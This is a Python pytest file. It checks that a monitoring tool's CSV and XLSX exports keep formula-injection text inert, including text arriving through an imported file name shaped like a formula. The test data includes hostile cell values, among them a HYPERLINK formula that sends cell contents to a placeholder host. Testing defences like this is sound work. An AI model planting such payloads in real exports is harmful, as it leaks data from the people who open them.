"""Every CSV and XLSX the product writes keeps text inert: no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from monitor.cli import main
from monitor.exports import csv_text, report_xlsx_bytes, xlsx_bytes
from tests.imports.conftest import csv_bytes

HOSTILE = ['=HYPERLINK("http://x/?"&A1,"click")', "+1+2", "-3-4", "@SUM(A1)", "\tx", "\rx"]
FILE_NAME = '=HYPERLINK("http:x?"&A1,"click").csv'  # a "/" cannot be in a file name


def formula_cells(data: bytes) -> list[str]:
    """Every formula cell of every sheet of a workbook (what must never be there)."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [
        f"{s.title}!{c.coordinate}" for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"
    ]


def test_hostile_text_is_inert_and_numbers_stay_numbers() -> None:
    frame = pd.DataFrame({"文本": HOSTILE, "数": [-9.5, 1.0, 2, 0.0, None, 3.25]})
    rows = list(csv.reader(io.StringIO(csv_text(frame), newline="")))
    assert [r[0] for r in rows[1:]] == ["'" + t for t in HOSTILE]
    assert [r[1] for r in rows[1:]] == ["-9.5", "1.0", "2.0", "0.0", "", "3.25"]
    data = xlsx_bytes({"表": frame})
    assert formula_cells(data) == []
    sheet = openpyxl.load_workbook(io.BytesIO(data))["表"]
    read = [str(sheet.cell(r, 1).value).replace("\r", "\n") for r in range(2, 8)]
    assert read == [t.replace("\r", "\n") for t in HOSTILE]  # the text itself (a bare CR may read back as LF)
    assert sheet.cell(2, 2).value == -9.5
    assert sheet.cell(2, 2).data_type == "n"


def test_a_formatted_report_keeps_text_inert_and_formats_its_numbers() -> None:
    """Title and period rows above a frozen header; hostile text stays text, numbers get their formats."""
    frame = pd.DataFrame({"指标": HOSTILE[:3], "数值": [1234.567, 2.0, None], "人数": [19000, 5, 7]})
    data = report_xlsx_bytes(
        "表",
        frame,
        title=HOSTILE[0],
        subtitle="报告期：2021年1-6月",
        formats={"数值": ["#,##0.00", "0.0", "#,##0.00"], "人数": "#,##0"},
        widths=[20, 12, 12],
    )
    assert formula_cells(data) == []
    sheet = openpyxl.load_workbook(io.BytesIO(data))["表"]
    assert (sheet["A1"].value, sheet["A2"].value) == (HOSTILE[0], "报告期：2021年1-6月")
    assert [c.value for c in sheet[3]] == ["指标", "数值", "人数"]
    assert sheet.freeze_panes == "B4"
    assert (sheet["A4"].value, sheet["A5"].value) == (HOSTILE[0], HOSTILE[1])
    assert (sheet["B4"].value, sheet["B4"].number_format, sheet["B5"].number_format) == (1234.567, "#,##0.00", "0.0")
    assert (sheet["C4"].value, sheet["C4"].number_format) == (19000, "#,##0")
    assert sheet.column_dimensions["A"].width == 20


@pytest.fixture
def hostile_db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """A database whose one import came from a file named like a formula (imported by its bare name)."""
    url = f"sqlite:///{tmp_path / 'm.db'}"
    assert main(["--db", url, "init"]) == 0
    (tmp_path / FILE_NAME).write_bytes(csv_bytes([["revenue", "", "2021-05", "33.56", "", "17.8", "说明"]]))
    monkeypatch.chdir(tmp_path)
    assert main(["--db", url, "import", FILE_NAME, "--department", "finance"]) == 0
    return url


def test_observation_exports_carry_the_formula_file_name_as_text(hostile_db: str, tmp_path: Path) -> None:
    out = tmp_path / "obs.xlsx"
    assert (
        main(["--db", hostile_db, "observations", "--indicator", "revenue", "--format", "xlsx", "--out", str(out)]) == 0
    )
    data = out.read_bytes()
    assert formula_cells(data) == []
    cells = [c.value for row in openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]
    assert any(isinstance(v, str) and "=HYPERLINK" in v for v in cells)
    out_csv = tmp_path / "obs.csv"
    assert (
        main(["--db", hostile_db, "observations", "--indicator", "revenue", "--format", "csv", "--out", str(out_csv)])
        == 0
    )
    text = out_csv.read_text(encoding="utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert any(c.startswith("'=HYPERLINK") for c in cells)


def test_pace_and_template_exports_have_no_formula_cells(hostile_db: str, tmp_path: Path) -> None:
    pace = tmp_path / "pace.csv"
    assert main(["--db", hostile_db, "pace", "--period", "2021-05", "--format", "csv", "--out", str(pace)]) == 0
    cells = [c for row in csv.reader(io.StringIO(pace.read_text(encoding="utf-8-sig"))) for c in row]
    assert cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    for suffix in ("xlsx", "csv"):
        template = tmp_path / f"t.{suffix}"
        argv = [
            "--db",
            hostile_db,
            "template",
            "--department",
            "finance",
            "--period",
            "2021-06",
            "--out",
            str(template),
        ]
        assert main(argv) == 0
        if suffix == "xlsx":
            assert formula_cells(template.read_bytes()) == []
